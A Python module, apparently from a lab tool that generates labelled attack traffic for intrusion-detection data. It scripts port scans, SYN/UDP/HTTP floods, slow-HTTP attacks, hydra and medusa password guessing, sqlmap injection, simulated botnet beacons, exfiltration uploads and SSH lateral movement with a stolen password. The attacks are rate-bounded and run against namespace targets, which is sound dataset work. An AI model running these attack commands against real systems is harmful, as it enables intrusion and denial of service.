"""The attacks: for each technique its family, and the programs that carry it out.

An attack is bounded twice: by the rate its program is told, and by a time after which it is killed.
"""

import contextlib
import os
import pathlib
import random
import shlex
import signal
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field, replace

from trafficlab import space
from trafficlab.services import PEOPLE, ROOM

HERE = pathlib.Path(__file__).parent
RAW, HOSTILE, SMALL, WEB = ([sys.executable, str(HERE / f"{n}.py")] for n in ("raw", "hostile", "small", "web"))

COMMON_PORTS = (
    "20-23,25,53,79-81,88,106,110,111,113,119,135,139,143,144,179,199,389,427,443-445,465,513-515,543,544,548,554,587,"
    "631,646,873,990,993,995,1025-1029,1110,1194,1433,1720,1723,1755,1900,2000,2001,2049,2121,2717,3000,3128,3306,3389,"
    "3986,4899,5000,5009,5051,5060,5101,5190,5357,5432,5631,5666,5800,5900,6000,6001,6379,6646,7070,8000,8008,8009,8080,"
    "8081,8443,8888,9100,9200,9999,10000,11211,27017,32768,49152-49157"
)
# What somebody who is inside already looks for.
LATERAL_PORTS = "21-23,53,80,88,111,135,139,389,443,445,1433,2049,3306,3389,5432,5900,5985,6379,8080,8443,9100,9200"


@dataclass(frozen=True)
class Step:
    """One attack of the timetable.

    `at` and `seconds` count from the start of the capture; `version` is 4 or 6; `port` is the target
    port where the technique has one; `strength` scales rate or parallelism.
    """

    at: float
    technique: str
    seconds: float
    origins: tuple
    targets: tuple
    version: int = 4
    port: int = 0
    strength: float = 1.0


@dataclass(frozen=True)
class Technique:
    kind: str
    tool: str
    protocol: str
    work: object
    ports: object = field(default=lambda step: [str(step.port)])


def run(command, seconds):
    """Runs a program until it ends or its time is up, and ends what it has started."""
    program = subprocess.Popen(
        [str(part) for part in command],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        cwd=ROOM,
        start_new_session=True,
    )
    try:
        with contextlib.suppress(subprocess.TimeoutExpired):
            program.wait(seconds)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(program.pid, signal.SIGKILL)
        program.wait()


def beside(namespace, command, seconds):
    """Runs a program in another namespace for a while, without waiting."""

    def body():
        space.enter(namespace)
        run(command, seconds)

    threading.Thread(target=body, daemon=True).start()


def hosts(step):
    return [t.address(step.version) for t in step.targets]


def url(step, scheme="http"):
    host = hosts(step)[0]
    return f"{scheme}://[{host}]:{step.port}" if step.version == 6 else f"{scheme}://{host}:{step.port}"


def nmap(*flags, ports=COMMON_PORTS, rate=120):
    def work(step, origin, chance):
        command = ["nmap", "-n", "-Pn", "-T4", "--max-retries", "1", *flags]
        if rate:
            command += ["--max-rate", int(rate * step.strength)]
        if step.version == 6:
            command.append("-6")
        run([*command, "-p", ports if not step.port else step.port, *hosts(step)], step.seconds)

    return work


def sweep(step, origin, chance):
    network = step.targets[0].v4.rsplit(".", 1)[0] + ".0/24"
    run(
        [
            "nmap",
            "-n",
            "-sn",
            "-PE",
            "-PS22,443",
            "-T4",
            "--max-rate",
            int(80 * step.strength),
            "--max-retries",
            "0",
            network,
        ],
        step.seconds,
    )


def hping(*flags, rate):
    def work(step, origin, chance):
        gap = int(1_000_000 / min(rate * step.strength, 600))
        port = ["-p", step.port] if step.port else []
        run(["hping3", "-q", "-i", f"u{gap}", *flags, *port, hosts(step)[0]], step.seconds)

    return work


def many(kind, rate):
    def work(step, origin, chance):
        network = next(p for p in origin.prefixes if (":" in p) == (step.version == 6))
        run(
            [*RAW, kind, hosts(step)[0], step.port, "--sources", network, "--count", int(160 * step.strength),
             "--rate", int(rate * step.strength), "--seconds", step.seconds, "--seed", chance.random()],
            step.seconds + 2,
        )  # fmt: skip

    return work


def http_flood(step, origin, chance):
    path = chance.choice(["/", "/search?q=a", "/product/7"])
    bounds = ["-t", int(step.seconds), "-n", int(45 * step.seconds * step.strength)]
    run(["ab", "-q", "-r", "-s", "5", *bounds, "-c", int(24 * step.strength) or 1, url(step) + path], step.seconds + 1)


def slow(*flags):
    def work(step, origin, chance):
        run(
            ["slowhttptest", "-c", int(90 * step.strength), "-r", 15, "-i", 4, "-l", int(step.seconds) - 1, "-p", 3,
             *flags, "-u", url(step) + "/login"],
            step.seconds,
        )  # fmt: skip

    return work


def wordlist(chance):
    """A few hundred likely passwords, none of them right."""
    words = [
        "password",
        "letmein",
        "welcome",
        "qwerty",
        "admin",
        "summer",
        "football",
        "monkey",
        "abc123",
        "master",
    ]
    path = ROOM / f"words-{chance.getrandbits(32):08x}"
    path.write_text("".join(f"{chance.choice(words)}{chance.randrange(3000)}\n" for _ in range(600)))
    return path


def hydra(service, tasks):
    def work(step, origin, chance):
        host = hosts(step)[0]
        command = [
            "hydra",
            "-q",
            "-I",
            "-t",
            max(1, int(tasks * step.strength)),
            "-s",
            step.port,
            "-l",
            chance.choice(list(PEOPLE)),
            "-P",
            wordlist(chance),
        ]
        if step.strength < 0.5:
            command += ["-W", "1"]
        if step.version == 6:
            command.append("-6")
        form = ["/login:user=^USER^&password=^PASS^:Wrong"] if service == "http-post-form" else []
        run([*command, host, service, *form], step.seconds)

    return work


def medusa(tasks):
    """SSH passwords, three to a connection."""

    def work(step, origin, chance):
        run(
            ["medusa", "-h", hosts(step)[0], "-n", step.port, "-u", chance.choice(list(PEOPLE)), "-P", wordlist(chance),
             "-M", "ssh", "-t", max(1, int(tasks * step.strength))],
            step.seconds,
        )  # fmt: skip

    return work


def spread(step, origin, chance):
    """Guesses at a neighbour's SSH door; then comes in with a stolen password, leaves a program and starts it."""
    medusa(3)(replace(step, seconds=step.seconds * 0.7), origin, chance)
    name = chance.choice(list(PEOPLE))
    quiet = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3".split()
    login = ["sshpass", "-p", PEOPLE[name], "ssh", *quiet, "-p", step.port, f"{name}@{hosts(step)[0]}"]
    program = f"head -c {chance.randrange(40, 400)}k /dev/urandom"
    run(["sh", "-c", f"{program} | {shlex.join(map(str, login))} 'cat > part.bin'"], step.seconds * 0.15)
    run([*login, "sh -c 'id; uname -a; ls -l'"], step.seconds * 0.15)


def probe(kind):
    def work(step, origin, chance):
        run(
            [*HOSTILE, "probe", kind, url(step), "--seconds", step.seconds, "--seed", chance.random()],
            step.seconds + 1,
        )

    return work


def sqlmap(step, origin, chance):
    room = ["--output-dir", ROOM / f"map-{chance.getrandbits(32):08x}"]
    depth = ["--technique=BEU", "--level", "2", "--threads", "2", "--delay", "0.05"]
    run(["sqlmap", "-u", url(step) + "/search?q=oak", "--batch", "--flush-session", *depth, *room], step.seconds)


def bot(kind, every):
    """The origin's machine inside calls a control server at the first target's place outside."""

    def work(step, origin, chance):
        server = {
            "http": [*WEB, ROOM / "shop.db", "--port"],
            "dns": [*HOSTILE, "control"],
            "irc": [*SMALL, "control"],
        }[kind]
        beside(step.targets[0].name, [*server, step.port], step.seconds + 5)
        pace = ["--seconds", step.seconds, "--every", every / step.strength, "--seed", chance.random()]
        run([*HOSTILE, "beacon", kind, hosts(step)[0], step.port, *pace], step.seconds + 3)

    return work


def carry(step, origin, chance):
    """The origin sends files to a drop that listens at the first target."""
    beside(step.targets[0].name, [*SMALL, "sink", step.port], step.seconds + 5)
    time.sleep(0.5)
    end = time.monotonic() + step.seconds
    while time.monotonic() < end:
        run([*HOSTILE, "carry", hosts(step)[0], step.port, "--seed", chance.random()], step.seconds)
        time.sleep(chance.uniform(0.5, 2))


def scanned(ports):
    """The ports of a truth record: the step's own, or the list that the scan was given."""
    return lambda step: [str(step.port)] if step.port else ports.split(",")


SCANNED = scanned(COMMON_PORTS)

TECHNIQUES = {
    "syn-scan": Technique("PortScan", "nmap -sS", "tcp", nmap("-sS"), SCANNED),
    "connect-scan": Technique("PortScan", "nmap -sT", "tcp", nmap("-sT"), SCANNED),
    "fin-scan": Technique("PortScan", "nmap -sF", "tcp", nmap("-sF"), SCANNED),
    "null-scan": Technique("PortScan", "nmap -sN", "tcp", nmap("-sN"), SCANNED),
    "xmas-scan": Technique("PortScan", "nmap -sX", "tcp", nmap("-sX"), SCANNED),
    "udp-scan": Technique("PortScan", "nmap -sU", "udp", nmap("-sU", rate=60), SCANNED),
    "slow-scan": Technique(
        "PortScan", "nmap -sS --scan-delay", "tcp", nmap("-sS", "--scan-delay", "400ms", rate=0), SCANNED
    ),
    "version-scan": Technique("PortScan", "nmap -sV", "tcp", nmap("-sV", "--version-intensity", "3"), SCANNED),
    "sweep": Technique("PortScan", "nmap -sn", "tcp", sweep, lambda step: ["22", "443"]),
    "syn-flood": Technique("DoS", "hping3 -S", "tcp", hping("-S", rate=300)),
    "syn-flood-many": Technique("DoS", "raw.py syn", "tcp", many("syn", 300)),
    "udp-flood": Technique("DoS", "hping3 --udp", "udp", hping("--udp", "-d", "400", rate=250)),
    "udp-flood-many": Technique("DoS", "raw.py udp", "udp", many("udp", 250)),
    "icmp-flood": Technique("DoS", "hping3 -1", "icmp", hping("-1", "-d", "800", rate=200), lambda step: []),
    "http-flood": Technique("DoS", "ab", "tcp", http_flood),
    "slow-headers": Technique("DoS", "slowhttptest -H", "tcp", slow("-H")),
    "slow-body": Technique("DoS", "slowhttptest -B", "tcp", slow("-B")),
    "ssh-guess": Technique("BruteForce", "medusa ssh", "tcp", medusa(4)),
    "ftp-guess": Technique("BruteForce", "hydra ftp", "tcp", hydra("ftp", 12)),
    "form-guess": Technique("BruteForce", "hydra http-post-form", "tcp", hydra("http-post-form", 6)),
    "injection": Technique("WebAttack", "curl", "tcp", probe("injection")),
    "traversal": Technique("WebAttack", "curl", "tcp", probe("traversal")),
    "scripting": Technique("WebAttack", "curl", "tcp", probe("scripting")),
    "crawl": Technique("WebAttack", "curl", "tcp", probe("crawl")),
    "sqlmap": Technique("WebAttack", "sqlmap", "tcp", sqlmap),
    "beacon-http": Technique("Botnet", "hostile.py beacon", "tcp", bot("http", 0.9)),
    "beacon-dns": Technique("Botnet", "hostile.py beacon", "udp", bot("dns", 0.6)),
    "beacon-irc": Technique("Botnet", "hostile.py beacon", "tcp", bot("irc", 1.0)),
    "upload": Technique("Botnet", "hostile.py carry", "tcp", carry),
    "inside-scan": Technique(
        "Infiltration",
        "nmap -sS",
        "tcp",
        nmap("-sS", "--send-ip", ports=LATERAL_PORTS, rate=40),
        scanned(LATERAL_PORTS),
    ),
    "inside-connect": Technique(
        "Infiltration",
        "nmap -sT",
        "tcp",
        nmap("-sT", "--send-ip", ports=LATERAL_PORTS, rate=40),
        scanned(LATERAL_PORTS),
    ),
    "inside-guess": Technique("Infiltration", "medusa ssh, ssh", "tcp", spread),
    "inside-copy": Technique("Infiltration", "hostile.py carry", "tcp", carry),
}


def carry_out(step, seed):
    """Runs a step from each of its origins at once; returns when the last has ended."""
    technique = TECHNIQUES[step.technique]

    def body(number, origin):
        space.enter(origin.name)
        technique.work(step, origin, random.Random(f"{seed} {step.at} {step.technique} {number}"))

    threads = [threading.Thread(target=body, args=entry) for entry in enumerate(step.origins)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def needed():
    """Program to the package of Debian and its kin that has it; where none is named, they are called alike."""
    alike = "nmap hping3 slowhttptest hydra medusa sqlmap curl tcpdump sshpass vsftpd openssl".split()
    return {
        **{name: name for name in alike},
        "ip": "iproute2",
        "nft": "nftables",
        "unshare": "util-linux",
        "ping": "iputils-ping",
        "sshd": "openssh-server",
        "ssh": "openssh-client",
        "ssh-keygen": "openssh-client",
        "ab": "apache2-utils",
        "dnsmasq": "dnsmasq-base",
        "dig": "dnsutils",
        "initdb": "postgresql",
        "postgres": "postgresql",
        "psql": "postgresql-client",
    }
